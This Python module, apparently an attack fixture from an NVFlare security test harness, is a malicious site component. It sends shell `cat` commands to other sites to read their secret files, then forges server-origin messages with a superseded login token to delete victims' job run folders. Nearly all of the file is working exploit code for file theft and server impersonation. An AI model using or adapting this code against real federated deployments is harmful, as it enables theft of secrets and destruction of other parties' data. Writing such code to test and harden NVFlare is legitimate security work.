"""Code of a dishonest owner, in its own NVFlare process and with its own certificate.

It asks other sites for their files by NVFlare's administrative messages, and speaks as the server to have a folder of
theirs deleted. What came of it is written into the file that ``LIKESET_ATTACK`` names; orders lie beside it.
"""

import json
import os
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.apis.event_type import EventType
from nvflare.apis.fl_component import FLComponent
from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
from nvflare.private.admin_defs import Message
from nvflare.private.defs import (
    CellChannel,
    CellMessageHeaderKeys,
    RequestHeader,
    SysCommandTopic,
    TrainingTopic,
    new_cell_message,
)

SECONDS = 8.0
OBEYING_SECONDS = 300.0  # whoever answers is waited for, however busy the machine is


class Hostile(FLComponent):  # type: ignore[misc]
    """Attacks once its site is connected."""

    def handle_event(self, event_type: str, fl_ctx: Any) -> None:
        if event_type == EventType.SYSTEM_START:
            threading.Thread(target=attack, args=(fl_ctx.get_engine(),), daemon=True).start()


def attack(engine: Any) -> None:
    """Each victim in turn: by its own name, and as the server."""
    said = Path(os.environ["LIKESET_ATTACK"])
    orders = json.loads(said.with_name("orders.json").read_text())
    answers: dict[str, Any] = {}
    try:
        time.sleep(2.0)  # until the others are connected, too
        cell = engine.get_cell()
        for victim, secrets in orders["victims"].items():
            seconds = OBEYING_SECONDS if victim in orders["obeying"] else SECONDS
            answers[victim] = _ask(cell, victim, SysCommandTopic.SHELL, f"cat {' '.join(secrets)}", seconds=seconds)
        _speak_as_server(engine, list(orders["victims"]), orders["job"])
    except Exception as error:  # whoever reads the answers must see it
        answers["error"] = repr(error)
    partial = said.with_suffix(".part")
    partial.write_text(json.dumps(answers))
    partial.rename(said)


def _ask(
    cell: Any, victim: str, topic: str, body: Any, *, seconds: float, headers: dict[str, Any] | None = None
) -> str:
    request = Message(topic, body)
    request.set_headers(headers or {})
    reply = cell.send_request(
        channel=CellChannel.CLIENT_MAIN,
        topic=topic,
        target=victim,
        request=new_cell_message({}, request),
        timeout=seconds,
        optional=True,
    )
    return str(getattr(reply.payload, "body", None))


def _speak_as_server(engine: Any, victims: list[str], job: str) -> None:
    """With the token of a login that a later one replaced, NVFlare's server does not look at the origin."""
    client, core = engine.client, engine.get_cell().core_cell
    old, signature = client.token, client.token_signature
    client.token = None
    client.register(engine.new_context())
    send = core._send_to_endpoint

    def send_forged(to_endpoint: Any, message: Any) -> Any:
        if message.get_header(MessageHeaderKey.DESTINATION) in victims:
            message.set_header(MessageHeaderKey.ORIGIN, "server")
            message.set_header(CellMessageHeaderKeys.CLIENT_NAME, client.client_name)
            message.set_header(CellMessageHeaderKeys.TOKEN, old)
            message.set_header(CellMessageHeaderKeys.TOKEN_SIGNATURE, signature)
        return send(to_endpoint, message)

    core._send_to_endpoint = send_forged
    for victim in victims:  # the answer goes to the server
        headers = {RequestHeader.JOB_ID: job}
        _ask(engine.get_cell(), victim, TrainingTopic.DELETE_RUN, "", seconds=1.0, headers=headers)
    core._send_to_endpoint = send
